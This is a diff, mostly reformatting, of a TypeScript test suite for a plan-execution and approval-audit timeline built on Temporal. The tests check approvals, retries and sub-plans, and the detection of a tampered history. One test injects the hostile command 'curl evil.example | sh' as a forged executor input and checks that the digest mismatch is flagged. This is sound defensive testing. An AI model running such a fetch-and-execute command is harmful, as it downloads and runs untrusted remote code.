@@ -8,7 +8,12 @@ import type { Client } from '@temporalio/client';
 import { defaultPayloadConverter } from '@temporalio/common';
 import { temporal } from '@temporalio/proto';
 import type { ShellStepInput } from '../activities/executor.js';
-import { planTimeline, renderTimeline, type PlanTimeline, type TimelineEntry } from '../services/history/index.js';
+import {
+  planTimeline,
+  renderTimeline,
+  type PlanTimeline,
+  type TimelineEntry,
+} from '../services/history/index.js';
 import { decide, submitPlan } from '../services/plans.js';
 import { startTestStack, type TestStack } from './support/stack.js';
 import { waitForStep } from './support/plans.js';
@@ -19,7 +24,8 @@ beforeAll(async () => {
 });
 afterAll(async () => stack?.close());
 
-const entriesOf = (timeline: PlanTimeline, step: string, kind?: TimelineEntry['kind']) => timeline.entries.filter((e) => e.step === step && (kind === undefined || e.kind === kind));
+const entriesOf = (timeline: PlanTimeline, step: string, kind?: TimelineEntry['kind']) =>
+  timeline.entries.filter((e) => e.step === step && (kind === undefined || e.kind === kind));
 
 describe('a plan with human, auto and denied steps', () => {
   let planId: string;
@@ -42,7 +48,10 @@ describe('a plan with human, auto and denied steps', () => {
     };
     ({ planId, workflowId } = await submitPlan(stack.client, plan, { proposer: 'history test' }));
     await waitForStep(stack.client, planId, 'human-step', 'awaiting_approval');
-    await decide(stack.client, stack.root, planId, 'human-step', { decision: 'approve', reason: 'looks safe' });
+    await decide(stack.client, stack.root, planId, 'human-step', {
+      decision: 'approve',
+      reason: 'looks safe',
+    });
     await waitForStep(stack.client, planId, 'deny-me', 'awaiting_approval');
     await waitForStep(stack.client, planId, 'checks', 'awaiting_approval');
     await decide(stack.client, stack.root, planId, 'checks', { decision: 'approve' });
@@ -52,7 +61,12 @@ describe('a plan with human, auto and denied steps', () => {
 
   it('shows every approval verified, with device, auto flag, results and the final status', async () => {
     const timeline = await planTimeline(stack.client, planId);
-    expect(timeline).toMatchObject({ workflowId, planName: 'history-demo', proposer: 'history test', status: 'failed' });
+    expect(timeline).toMatchObject({
+      workflowId,
+      planName: 'history-demo',
+      proposer: 'history test',
+      status: 'failed',
+    });
     expect(timeline.runs).toHaveLength(1);
     expect(timeline.entries[0]?.kind).toBe('plan_started');
     expect(timeline.entries.at(-1)).toMatchObject({ kind: 'plan_finished' });
@@ -61,14 +75,28 @@ describe('a plan with human, auto and denied steps', () => {
 
     expect(entriesOf(timeline, 'human-step', 'gate_reached')).toHaveLength(1);
     const [human] = entriesOf(timeline, 'human-step', 'approval');
-    expect(human?.approval).toMatchObject({ keyId: stack.root.keyId, device: 'test phone', role: 'root', decision: 'approve', reason: 'looks safe', auto: false, verified: true });
+    expect(human?.approval).toMatchObject({
+      keyId: stack.root.keyId,
+      device: 'test phone',
+      role: 'root',
+      decision: 'approve',
+      reason: 'looks safe',
+      auto: false,
+      verified: true,
+    });
     expect(human?.approval?.problem).toBeUndefined();
     const [auto] = entriesOf(timeline, 'auto-step', 'approval');
     expect(auto?.approval).toMatchObject({ role: 'policy', decision: 'approve', auto: true, verified: true });
     expect(auto?.approval?.reason).toContain('auto-approved by plan policy rule #0');
     expect(entriesOf(timeline, 'auto-step', 'gate_reached')).toHaveLength(0);
     const [denial] = entriesOf(timeline, 'deny-me', 'approval');
-    expect(denial?.approval).toMatchObject({ device: 'test phone', decision: 'deny', reason: 'not today', auto: false, verified: true });
+    expect(denial?.approval).toMatchObject({
+      device: 'test phone',
+      decision: 'deny',
+      reason: 'not today',
+      auto: false,
+      verified: true,
+    });
     expect(entriesOf(timeline, 'deny-me', 'step_started')).toHaveLength(0);
 
     const [humanDone] = entriesOf(timeline, 'human-step', 'step_finished');
@@ -81,7 +109,13 @@ describe('a plan with human, auto and denied steps', () => {
     expect(checks?.text).toContain('exit 3');
 
     expect(timeline.steps).toEqual([
-      expect.objectContaining({ path: 'human-step', summary: 'echo hello from human', attempts: 1, approvals: 1, verified: true }),
+      expect.objectContaining({
+        path: 'human-step',
+        summary: 'echo hello from human',
+        attempts: 1,
+        approvals: 1,
+        verified: true,
+      }),
       expect.objectContaining({ path: 'auto-step', attempts: 1, approvals: 1, verified: true }),
       expect.objectContaining({ path: 'checks', attempts: 1, approvals: 1, verified: true }),
       expect.objectContaining({ path: 'deny-me', attempts: 0, approvals: 1, verified: true }),
@@ -99,8 +133,12 @@ describe('a plan with human, auto and denied steps', () => {
     const lines = text.trimEnd().split('\n');
     expect(lines[0]).toBe(`plan "history-demo" (${workflowId}), proposed by history test: failed`);
     expect(lines.filter((l) => /^\d\d:\d\d:\d\d\.\d{3} /.test(l))).toHaveLength(timeline.entries.length);
-    expect(text).toMatch(/✓ approval +human-step +approved by "test phone" \(root\), key [0-9a-f]{12}: "looks safe"/);
-    expect(text).toMatch(/✓ auto-approval +auto-step +approved by "policy \(auto-approval rules\)" \(policy\), key [0-9a-f]{12}: "auto-approved by plan policy rule #0"/);
+    expect(text).toMatch(
+      /✓ approval +human-step +approved by "test phone" \(root\), key [0-9a-f]{12}: "looks safe"/,
+    );
+    expect(text).toMatch(
+      /✓ auto-approval +auto-step +approved by "policy \(auto-approval rules\)" \(policy\), key [0-9a-f]{12}: "auto-approved by plan policy rule #0"/,
+    );
     expect(text).toMatch(/✓ denial +deny-me +denied by "test phone" \(root\).*"not today"/);
     expect(text).toMatch(/step finished +human-step +exit 0 after/);
     expect(text).toMatch(/│ hello from human/);
@@ -109,7 +147,9 @@ describe('a plan with human, auto and denied steps', () => {
     expect(text).toContain('│ line-g');
     expect(text).toContain('│ line-c');
     expect(text).not.toContain('│ line-b');
-    expect(text).toMatch(/plan finished +plan "history-demo" failed: checks failed \(exit code 3\); deny-me denied \(denied by test phone\)/);
+    expect(text).toMatch(
+      /plan finished +plan "history-demo" failed: checks failed \(exit code 3\); deny-me denied \(denied by test phone\)/,
+    );
     expect(text).not.toContain('✗');
   });
 
@@ -120,7 +160,9 @@ describe('a plan with human, auto and denied steps', () => {
     for (const entry of decisions) {
       expect(entry.kind).toBe('approval_refused_at_audit');
       expect(entry.approval?.verified).toBe(false);
-      expect(entry.approval?.problem).toMatch(/^\[untrusted_root\] device records do not chain to a trusted root: root device [0-9a-f]{32} is not the pinned root a?b/);
+      expect(entry.approval?.problem).toMatch(
+        /^\[untrusted_root\] device records do not chain to a trusted root: root device [0-9a-f]{32} is not the pinned root a?b/,
+      );
     }
     expect(timeline.steps.every((s) => !s.verified)).toBe(true);
     const text = renderTimeline(timeline);
@@ -130,39 +172,68 @@ describe('a plan with human, auto and denied steps', () => {
 
   it('shows retries, and flags an edited history: a changed command, a missing and a replayed approval', async () => {
     const real = await stack.client.workflow.getHandle(workflowId).fetchHistory();
-    const history = temporal.api.history.v1.History.decode(temporal.api.history.v1.History.encode(real).finish());
+    const history = temporal.api.history.v1.History.decode(
+      temporal.api.history.v1.History.encode(real).finish(),
+    );
     const events = history.events;
     const scheduledFor = (type: string, step: string) =>
       events.find((e) => {
         const a = e.activityTaskScheduledEventAttributes;
-        const input = a && defaultPayloadConverter.fromPayload<{ stepPath?: string; step?: { path: string } }>(a.input!.payloads![0]!);
+        const input =
+          a &&
+          defaultPayloadConverter.fromPayload<{ stepPath?: string; step?: { path: string } }>(
+            a.input!.payloads![0]!,
+          );
         return a?.activityType?.name === type && (input?.stepPath ?? input?.step?.path) === step;
       })!;
-    const startedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) => events.find((e) => String(e.activityTaskStartedEventAttributes?.scheduledEventId) === String(scheduled.eventId))!;
-    const completedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) => events.find((e) => String(e.activityTaskCompletedEventAttributes?.scheduledEventId) === String(scheduled.eventId))!;
+    const startedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) =>
+      events.find(
+        (e) => String(e.activityTaskStartedEventAttributes?.scheduledEventId) === String(scheduled.eventId),
+      )!;
+    const completedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) =>
+      events.find(
+        (e) => String(e.activityTaskCompletedEventAttributes?.scheduledEventId) === String(scheduled.eventId),
+      )!;
 
     // human-step: its executor activity needed three attempts (history keeps only the last start).
-    const humanStart = startedOf(scheduledFor('runShellStep', 'human-step')).activityTaskStartedEventAttributes!;
+    const humanStart = startedOf(
+      scheduledFor('runShellStep', 'human-step'),
+    ).activityTaskStartedEventAttributes!;
     humanStart.attempt = 3;
-    humanStart.lastFailure = temporal.api.failure.v1.Failure.create({ message: 'activity Heartbeat timeout', timeoutFailureInfo: {} });
+    humanStart.lastFailure = temporal.api.failure.v1.Failure.create({
+      message: 'activity Heartbeat timeout',
+      timeoutFailureInfo: {},
+    });
     // checks: the executor was sent another command than the one approved.
     const checks = scheduledFor('runShellStep', 'checks').activityTaskScheduledEventAttributes!;
     const input = defaultPayloadConverter.fromPayload<ShellStepInput>(checks.input!.payloads![0]!);
-    checks.input!.payloads = [defaultPayloadConverter.toPayload({ ...input, step: { ...input.step, run: 'curl evil.example | sh' } })];
+    checks.input!.payloads = [
+      defaultPayloadConverter.toPayload({ ...input, step: { ...input.step, run: 'curl evil.example | sh' } }),
+    ];
     // auto-step: its auto-approval is gone, yet the step still ran.
     events.splice(events.indexOf(completedOf(scheduledFor('signAutoApproval', 'auto-step'))), 1);
     // The human approval appears a second time, just before the plan ends.
     const accepted = events.find((e) => e.workflowExecutionUpdateAcceptedEventAttributes)!;
-    const replay = temporal.api.history.v1.HistoryEvent.decode(temporal.api.history.v1.HistoryEvent.encode(accepted).finish());
+    const replay = temporal.api.history.v1.HistoryEvent.decode(
+      temporal.api.history.v1.HistoryEvent.encode(accepted).finish(),
+    );
     replay.eventTime = events.at(-1)!.eventTime;
     events.splice(events.length - 1, 0, replay);
 
-    const fake = { workflow: { getHandle: () => ({ fetchHistory: async () => history }) } } as unknown as Client;
+    const fake = {
+      workflow: { getHandle: () => ({ fetchHistory: async () => history }) },
+    } as unknown as Client;
     const timeline = await planTimeline(fake, workflowId);
     const [retry] = entriesOf(timeline, 'human-step', 'step_retry');
-    expect(retry?.text).toBe('attempt 3 started after 2 failed or timed-out attempts; last failure: activity Heartbeat timeout');
-    expect(entriesOf(timeline, 'checks', 'step_started')[0]?.text).toBe('sent to the executor: `curl evil.example | sh` — differs from the planned step `for l in a b c d e f g; do echo line-$l; done; exit 3` (digest mismatch)');
-    expect(entriesOf(timeline, 'auto-step', 'step_started')[0]?.text).toContain('scheduled without verified approvals meeting its policy (0 of 1)');
+    expect(retry?.text).toBe(
+      'attempt 3 started after 2 failed or timed-out attempts; last failure: activity Heartbeat timeout',
+    );
+    expect(entriesOf(timeline, 'checks', 'step_started')[0]?.text).toBe(
+      'sent to the executor: `curl evil.example | sh` — differs from the planned step `for l in a b c d e f g; do echo line-$l; done; exit 3` (digest mismatch)',
+    );
+    expect(entriesOf(timeline, 'auto-step', 'step_started')[0]?.text).toContain(
+      'scheduled without verified approvals meeting its policy (0 of 1)',
+    );
     const replayed = entriesOf(timeline, 'human-step', 'approval_refused_at_audit');
     expect(replayed).toHaveLength(1);
     expect(replayed[0]?.approval?.problem).toMatch(/^\[nonce_reused\] /);
@@ -181,9 +252,16 @@ describe('a plan with human, auto and denied steps', () => {
 
 describe('a plan that continues as new', () => {
   it('spans every run of the chain and keeps every step', async () => {
-    const steps = Array.from({ length: 10 }, (_, i) => ({ id: `s${i}`, run: `echo step ${i}`, approval: 'auto' }));
+    const steps = Array.from({ length: 10 }, (_, i) => ({
+      id: `s${i}`,
+      run: `echo step ${i}`,
+      approval: 'auto',
+    }));
     const plan = { name: 'long-history', policy: { autoApprove: [{ runPrefix: 'echo step ' }] }, steps };
-    const { planId, workflowId } = await submitPlan(stack.client, plan, { proposer: 'history test', continueAsNewAfterEvents: 40 });
+    const { planId, workflowId } = await submitPlan(stack.client, plan, {
+      proposer: 'history test',
+      continueAsNewAfterEvents: 40,
+    });
     await stack.client.workflow.getHandle(workflowId).result();
 
     const timeline = await planTimeline(stack.client, planId);
@@ -191,16 +269,24 @@ describe('a plan that continues as new', () => {
     expect(timeline.runs.length).toBeGreaterThan(1);
     expect(new Set(timeline.runs).size).toBe(timeline.runs.length);
     expect(timeline.runs.at(-1)).toBe((await stack.client.workflow.getHandle(workflowId).describe()).runId);
-    expect(timeline.entries.filter((e) => e.kind === 'continued_as_new')).toHaveLength(timeline.runs.length - 1);
+    expect(timeline.entries.filter((e) => e.kind === 'continued_as_new')).toHaveLength(
+      timeline.runs.length - 1,
+    );
     expect(timeline.entries.filter((e) => e.kind === 'plan_started')).toHaveLength(1);
     expect(new Set(timeline.entries.map((e) => e.runId))).toEqual(new Set(timeline.runs));
     for (const { id } of steps) {
       expect(entriesOf(timeline, id, 'approval')).toHaveLength(1);
-      expect(entriesOf(timeline, id, 'step_finished')[0]?.result?.outputTail).toContain(`step ${id.slice(1)}`);
+      expect(entriesOf(timeline, id, 'step_finished')[0]?.result?.outputTail).toContain(
+        `step ${id.slice(1)}`,
+      );
     }
-    expect(timeline.steps.map((s) => [s.path, s.attempts, s.approvals, s.verified])).toEqual(steps.map((s) => [s.id, 1, 1, true]));
+    expect(timeline.steps.map((s) => [s.path, s.attempts, s.approvals, s.verified])).toEqual(
+      steps.map((s) => [s.id, 1, 1, true]),
+    );
     // Approvals signed in later runs name the first run, which is what the audit checks against.
-    expect(timeline.entries.filter((e) => e.approval && e.runId !== timeline.runs[0]).length).toBeGreaterThan(0);
+    expect(timeline.entries.filter((e) => e.approval && e.runId !== timeline.runs[0]).length).toBeGreaterThan(
+      0,
+    );
     const text = renderTimeline(timeline);
     expect(text).toContain(`${timeline.runs.length} runs: ${timeline.runs.join(' → ')}`);
     expect(text.match(/ continued as new +continued as new in run /g)?.length).toBe(timeline.runs.length - 1);
@@ -209,8 +295,18 @@ describe('a plan that continues as new', () => {
 
 describe('a plan with a gate and a sub-plan', () => {
   it('shows the open plan awaiting approval, then the child workflow, which has its own verified timeline', async () => {
-    const child = { name: 'docs-plan', policy: { autoApprove: [{ id: 'write' }] }, steps: [{ id: 'write', run: 'echo docs written', approval: 'auto' }] };
-    const plan = { name: 'parent', steps: [{ id: 'go', gate: 'Ready to write the docs?' }, { id: 'docs', plan: child }] };
+    const child = {
+      name: 'docs-plan',
+      policy: { autoApprove: [{ id: 'write' }] },
+      steps: [{ id: 'write', run: 'echo docs written', approval: 'auto' }],
+    };
+    const plan = {
+      name: 'parent',
+      steps: [
+        { id: 'go', gate: 'Ready to write the docs?' },
+        { id: 'docs', plan: child },
+      ],
+    };
     const { planId, workflowId } = await submitPlan(stack.client, plan, { proposer: 'history test' });
     await waitForStep(stack.client, planId, 'go', 'awaiting_approval');
     const open = await planTimeline(stack.client, planId);
@@ -221,7 +317,15 @@ describe('a plan with a gate and a sub-plan', () => {
     await stack.client.workflow.getHandle(workflowId).result();
     const timeline = await planTimeline(stack.client, planId);
     expect(timeline.status).toBe('succeeded');
-    expect(timeline.steps).toEqual([expect.objectContaining({ path: 'go', summary: 'Ready to write the docs?', attempts: 0, approvals: 1, verified: true })]);
+    expect(timeline.steps).toEqual([
+      expect.objectContaining({
+        path: 'go',
+        summary: 'Ready to write the docs?',
+        attempts: 0,
+        approvals: 1,
+        verified: true,
+      }),
+    ]);
     expect(entriesOf(timeline, 'docs').map((e) => [e.kind, e.text])).toEqual([
       ['sub_plan_started', `sub-plan "docs-plan" started as ${workflowId}.docs`],
       ['sub_plan_finished', `sub-plan ${workflowId}.docs succeeded`],
@@ -235,7 +339,9 @@ describe('a plan with a gate and a sub-plan', () => {
   });
 
   it('says plainly when there is no such plan', async () => {
-    await expect(planTimeline(stack.client, 'nosuchplan')).rejects.toThrow('history nosuchplan: no such plan (plan-nosuchplan)');
+    await expect(planTimeline(stack.client, 'nosuchplan')).rejects.toThrow(
+      'history nosuchplan: no such plan (plan-nosuchplan)',
+    );
   });
 });
 
@@ -255,7 +361,15 @@ describe('renderTimeline', () => {
           kind: 'step_finished',
           step: 's',
           text: 'exit 0\nforged line',
-          result: { exitCode: 0, signal: null, durationMs: 5, outputTail: 'progress 10%\rprogress 100%\r\n\u001b[32mgreen\u001b[0m\r\n\r\n', attempt: 1, attachCount: 1, backend: 'jail' },
+          result: {
+            exitCode: 0,
+            signal: null,
+            durationMs: 5,
+            outputTail: 'progress 10%\rprogress 100%\r\n\u001b[32mgreen\u001b[0m\r\n\r\n',
+            attempt: 1,
+            attachCount: 1,
+            backend: 'jail',
+          },
         },
       ],
     });
